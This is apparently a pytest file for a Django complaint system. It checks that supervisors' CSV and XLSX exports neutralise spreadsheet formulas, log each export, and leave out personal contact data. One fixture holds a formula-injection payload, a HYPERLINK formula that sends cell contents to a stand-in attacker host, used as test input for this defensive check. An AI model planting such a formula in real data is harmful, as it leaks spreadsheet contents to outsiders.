"""Supervisors export complaints to CSV and XLSX; formulas are neutralised; exports are logged."""

import csv
import io

import pytest
from openpyxl import load_workbook

from forms.admin_export import EXPORT_HEADINGS, neutralise_formula
from forms.models import AuditEntry, Complaint

from .conftest import make_staff, valid_data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik") jalan berlubang di depan pasar'


@pytest.fixture
def supervisor_client(client, setup, django_user_model):
    client.post(setup.url, valid_data(setup, description=FORMULA, name="@Budi Santoso"))
    client.force_login(make_staff(django_user_model, "supervisor", group="Supervisor Pengaduan"))
    return client


def test_csv_export_neutralises_formulas_and_is_logged(supervisor_client):
    response = supervisor_client.get("/admin/pengaduan/kotak-masuk/?export=csv")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    description = rows[1][rows[0].index("Uraian")]
    assert description.startswith("'=HYPERLINK")
    entry = AuditEntry.objects.get(action="export")
    assert entry.username == "supervisor"
    assert "CSV, 1" in entry.detail


def test_xlsx_export_holds_text_not_formulas(supervisor_client):
    response = supervisor_client.get("/admin/pengaduan/kotak-masuk/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Uraian") + 1)
    assert cell.data_type == "s"
    assert str(cell.value).startswith("'=HYPERLINK")


def test_export_carries_no_contact_data_or_nik(supervisor_client):
    response = supervisor_client.get("/admin/pengaduan/kotak-masuk/?export=csv")
    content = b"".join(response.streaming_content).decode()
    assert "Budi" not in content
    assert "+62" not in content
    assert "budi@example.com" not in content


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62812", "'+62812"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("aman", "aman"),
        (42, 42),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


# Every export column, and what it must hold for a complaint whose optional fields are all
# empty: "" where the complaint has nothing to say, "filled" where a value must be there.
EXPORT_COLUMNS_WITH_EMPTY_OPTIONALS = {
    "reference": "filled",
    "submit_time": "filled",
    "category.name": "filled",
    "assigned_unit.name": "filled",
    "district.name": "",
    "get_status_display": "filled",
    "get_reporter_mode_display": "filled",
    "first_response_due": "filled",
    "resolution_due": "filled",
    "is_overdue": "filled",
    "closed_at": "",
    "description": "filled",
}


def exported_rows(client, export_format):
    """The export as a list of {column: text} rows, read back the way a supervisor would."""
    response = client.get(f"/admin/pengaduan/kotak-masuk/?export={export_format}")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        table = list(csv.reader(io.StringIO(content.decode())))
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        table = [["" if cell is None else str(cell) for cell in row] for row in sheet.values]
    columns = list(EXPORT_HEADINGS)
    assert len(table[0]) == len(columns)
    return [dict(zip(columns, row, strict=True)) for row in table[1:]]


@pytest.fixture
def bare_complaint(client, setup, django_user_model):
    """An anonymous complaint without district, place, date or any other optional value."""
    left_empty = dict.fromkeys(["district", "incident_location", "incident_date", "name"], "")
    left_empty.update(phone="", email="", nik="")
    client.post(setup.url, valid_data(setup, reporter_mode="anonymous", **left_empty))
    complaint = Complaint.objects.get()
    optional = [
        field
        for field in Complaint._meta.concrete_fields
        if (field.null or field.blank) and not (field.primary_key or field.editable is False)
    ]
    Complaint.objects.filter(pk=complaint.pk).update(
        **{field.attname: None if field.null else field.get_default() for field in optional}
    )
    client.force_login(make_staff(django_user_model, "supervisor", group="Supervisor Pengaduan"))
    return Complaint.objects.get()


def test_every_export_column_is_checked_below():
    assert list(EXPORT_COLUMNS_WITH_EMPTY_OPTIONALS) == list(EXPORT_HEADINGS)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("column", list(EXPORT_COLUMNS_WITH_EMPTY_OPTIONALS))
def test_every_export_column_copes_with_every_optional_field_empty(
    client, bare_complaint, export_format, column
):
    assert bare_complaint.district is None
    rows = exported_rows(client, export_format)
    assert len(rows) == 1
    if EXPORT_COLUMNS_WITH_EMPTY_OPTIONALS[column] == "filled":
        assert rows[0][column].strip()
    else:
        assert rows[0][column] == ""
    assert rows[0]["reference"] == bare_complaint.reference


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_complaint_without_district_is_exported_beside_complete_ones(
    client, bare_complaint, setup, export_format
):
    client.post(setup.url, valid_data(setup))
    rows = exported_rows(client, export_format)
    assert sorted(row["district.name"] for row in rows) == ["", "Sekayu"]
